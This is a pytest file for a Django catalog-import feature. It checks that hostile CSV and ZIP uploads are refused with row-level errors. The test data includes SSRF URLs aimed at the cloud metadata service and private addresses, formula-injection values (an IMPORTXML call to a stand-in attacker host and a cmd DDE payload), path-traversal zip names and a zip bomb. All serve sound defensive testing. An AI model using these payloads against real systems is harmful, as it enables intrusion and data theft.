"""The nasty-file set: each gives its row-level error (row, column, code) and nothing is half-created: no
product, photo, batch or staged file for a refused row."""

from __future__ import annotations

import io
import zipfile

import pytest

from generation.imports import services
from generation.imports.validate import report_rows
from generation.models import Batch, CatalogImport, Job, Photo, Product
from tests.imports.conftest import csv_bytes, product_jpeg, stored_files, zip_bytes

pytestmark = pytest.mark.django_db

HEADER = "sku,title,image_url,markets"


def _run(org, data: bytes, **kwargs) -> tuple[CatalogImport, set[tuple[int, str, str]]]:
    imp = services.stage_import(organization=org, csv_upload=data, **kwargs)
    imp = services.process_import(imp.pk)
    return imp, {(r, c, code) for r, c, code, _m in report_rows(imp)}


def _assert_nothing_created(org, media_root) -> None:
    assert not Product.objects.filter(organization=org).exists()
    assert not Photo.objects.filter(organization=org).exists()
    assert not Batch.objects.filter(organization=org).exists() and not Job.objects.exists()
    assert not [p for p in stored_files(media_root) if "/rows/" in str(p)]  # no staged image left behind


def _one_bad_url(org, url: str, media_root) -> set:
    imp, report = _run(org, csv_bytes([HEADER, f"N-1,Nasty,{url},us"]))
    assert imp.status == CatalogImport.Status.FAILED
    with pytest.raises(services.ImportNotConfirmable):
        services.confirm_import(catalog_import=imp)
    _assert_nothing_created(org, media_root)
    return report


def test_loopback_url_without_allowlist(org, image_server, media_root):
    url = image_server.image("/a.jpg", product_jpeg())
    assert (2, "image_url", "address_not_allowed") in _one_bad_url(org, url, media_root)
    assert image_server.requests == []  # refused before connecting


def test_metadata_address(org, media_root):
    report = _one_bad_url(org, "http://169.254.169.254/latest/meta-data/iam/image.jpg", media_root)
    assert (2, "image_url", "address_not_allowed") in report


def test_metadata_ipv6_and_mapped_addresses(org, media_root):
    data = csv_bytes(
        [
            HEADER,
            "V6-1,Metadata v6,http://[fd00:ec2::254]/x.jpg,us",
            "V6-2,Mapped loopback,http://[::ffff:127.0.0.1]/x.jpg,us",
            "V6-3,Private,http://10.1.2.3/x.jpg,us",
        ]
    )
    _imp, report = _run(org, data)
    assert report >= {
        (2, "image_url", "address_not_allowed"),
        (3, "image_url", "address_not_allowed"),
        (4, "image_url", "address_not_allowed"),
    }
    _assert_nothing_created(org, media_root)


def test_redirect_into_private_range_is_refused_even_with_the_server_allowed(org, allow_server, media_root):
    # The allowlist covers this server only: its 302 to 10.0.0.1 must still be refused at the next hop.
    url = allow_server.redirect("/r.jpg", "http://10.0.0.1/internal.jpg")
    assert (2, "image_url", "address_not_allowed") in _one_bad_url(org, url, media_root)
    assert [p for p, _h in allow_server.requests] == ["/r.jpg"]


def test_zero_byte_image(org, allow_server, media_root):
    url = allow_server.image("/empty.jpg", b"")
    assert (2, "image_url", "empty_file") in _one_bad_url(org, url, media_root)


def test_not_an_image_despite_content_type(org, allow_server, media_root):
    url = allow_server.image("/fake.jpg", b"<html>this is not a picture</html>" * 20, "image/jpeg")
    assert (2, "image_url", "not_an_image") in _one_bad_url(org, url, media_root)


@pytest.mark.parametrize("declare_length", [True, False], ids=["content-length", "no-length"])
def test_40_mb_image_refused_while_streaming(org, allow_server, media_root, declare_length):
    url = allow_server.endless("/huge.jpg", 41 * 1024 * 1024, declare_length=declare_length)
    assert (2, "image_url", "image_too_large_bytes") in _one_bad_url(org, url, media_root)


def test_unknown_market_duplicate_sku_and_formula_together(org, allow_server, media_root):
    url = allow_server.image("/ok.jpg", product_jpeg(8))
    data = csv_bytes(
        [
            HEADER,
            f"D-1,First,{url},us",
            f"D-1,Second with the same SKU,{url},us",
            f"d-1,Third (case differs),{url},us",
            f"M-1,Mars shop,{url},mars",
            f'F-1,"=IMPORTXML(""http://evil.example"",""//a"")",{url},us',
            f"F-2,-2+3+cmd|' /C calc'!A0,{url},us",
        ]
    )
    imp, report = _run(org, data)
    assert report == {
        (3, "sku", "duplicate_sku"),
        (4, "sku", "duplicate_sku"),
        (5, "markets", "unknown_market"),
        (6, "title", "formula_like_value"),
        (7, "title", "formula_like_value"),
    }
    assert imp.status == CatalogImport.Status.READY and imp.rows_valid == 1  # only the first D-1
    services.confirm_import(catalog_import=imp)
    assert set(Product.objects.filter(organization=org).values_list("sku", flat=True)) == {"D-1"}


def test_zip_with_path_traversal_names(org, media_root, tmp_path):
    archive = zip_bytes({"../evil.jpg": product_jpeg(9), "good.jpg": product_jpeg(10), "/abs.jpg": b"x"})
    data = csv_bytes(["sku,title,image_file,markets", "Z-1,Evil,../evil.jpg,us", "Z-2,Good,good.jpg,us"])
    imp, report = _run(org, data, zip_upload=archive)
    assert (3 - 1, "image_file", "unsafe_file_name") in report
    assert (0, "zip", "zip_unsafe_name") in report
    assert imp.status == CatalogImport.Status.READY and imp.rows_valid == 1
    assert not (media_root.parent / "evil.jpg").exists() and not (tmp_path / "evil.jpg").exists()
    services.confirm_import(catalog_import=imp)
    assert list(Product.objects.filter(organization=org).values_list("sku", flat=True)) == ["Z-2"]


def test_zip_bomb_refused_by_declared_size(org, media_root, settings):
    settings.SHOPVIDEO_IMPORT_MAX_ZIP_UNCOMPRESSED = 50 * 1024 * 1024
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("bomb.jpg", "w", force_zip64=True) as member,
    ):
        for _ in range(64):  # 64 MB of zeros → about 64 KB compressed
            member.write(b"\x00" * (1024 * 1024))
    assert len(buf.getvalue()) < 1024 * 1024
    data = csv_bytes(["sku,title,image_file,markets", "B-1,Bomb,bomb.jpg,us"])
    imp = services.stage_import(organization=org, csv_upload=data, zip_upload=buf.getvalue())
    assert imp.status == CatalogImport.Status.FAILED
    assert {(r, c, code) for r, c, code, _m in report_rows(imp)} == {(0, "zip", "zip_too_large")}
    assert not imp.rows.exists()
    _assert_nothing_created(org, media_root)


def test_zip_member_over_the_image_limit_is_cut_off_by_actual_size(org, media_root, settings):
    settings.SHOPVIDEO_IMPORT_MAX_IMAGE_BYTES = 2 * 1024 * 1024
    archive = zip_bytes({"big.jpg": product_jpeg(11)[:4] + b"\x00" * (3 * 1024 * 1024)})
    data = csv_bytes(["sku,title,image_file,markets", "Z-9,Big,big.jpg,us"])
    _imp, report = _run(org, data, zip_upload=archive)
    assert report >= {(2, "image_file", "image_too_large_bytes")}
    _assert_nothing_created(org, media_root)


def test_unreadable_csv_leaves_only_a_report(org, media_root):
    for data, code in [
        (b"", "empty_file"),
        (b"\x00\x01\x02PK\x03\x04 binary", "not_a_csv"),
        (b"name,price\nfoo,1\n", "unknown_format"),
        (b"sku,title\nA,B\n", "missing_column"),
        # Past the sniffed 64 KB sample: the reader stops there and names the row.
        (b"sku,title,image_url\n" + b"A,B,http://example.com/a.jpg\n" * 3000 + b"C,\xff\xfe,x\n", "not_utf8"),
        (
            b"sku,title,image_url\n" + b"A,B,http://example.com/a.jpg\n" * 3000 + b"C," + b"y" * 200_000,
            "field_too_large",
        ),
    ]:
        imp = services.stage_import(organization=org, csv_upload=data + b"\n")
        assert imp.status == CatalogImport.Status.FAILED, code
        codes = {(r, c) for r, _col, c, _m in report_rows(imp)}
        assert code in {c for _r, c in codes}, (code, codes)
        if code in ("not_utf8", "field_too_large"):
            assert (3002, code) in codes  # header + 3000 rows before it
        assert not imp.rows.exists()
    _assert_nothing_created(org, media_root)


def test_rows_over_the_limit_refuse_the_file(org, settings):
    settings.SHOPVIDEO_IMPORT_MAX_ROWS = 3
    data = csv_bytes([HEADER] + [f"S-{i},T,http://example.com/{i}.jpg,us" for i in range(5)])
    imp = services.stage_import(organization=org, csv_upload=data)
    assert imp.status == CatalogImport.Status.FAILED
    assert [c for _r, _col, c, _m in report_rows(imp)] == ["too_many_rows"]
    assert not imp.rows.exists()
